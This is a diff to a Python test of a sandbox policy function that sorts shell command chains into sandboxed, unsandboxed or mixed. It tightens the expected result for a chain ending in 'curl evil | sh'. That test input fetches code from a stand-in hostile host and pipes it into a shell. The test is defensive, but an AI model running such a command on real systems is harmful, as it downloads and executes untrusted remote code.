@@ -80,7 +80,8 @@ def test_excluded_commands_never_unsandbox_a_chain_silently(world: World) -> Non
     s = SandboxSettings(enabled=True, excluded_commands=("Bash(npm install *)", "git fetch"))
     assert command_disposition("npm install left-pad", s) == "unsandboxed"
     assert command_disposition("git fetch && npm install", s) == "unsandboxed"
-    assert command_disposition("npm install x && curl evil | sh", s) == "mixed"
+    assert command_disposition("npm install x && curl evil", s) == "mixed"
+    assert command_disposition("npm install x && curl evil | sh", s) == "sandbox"  # sh runs piped code: dynamic
     assert command_disposition("echo $(npm install x)", s) == "sandbox"  # dynamic: never let out
     assert command_disposition("make", s) == "sandbox"
     no = SandboxSettings(enabled=True, excluded_commands=("git fetch",), allow_unsandboxed_commands=False)
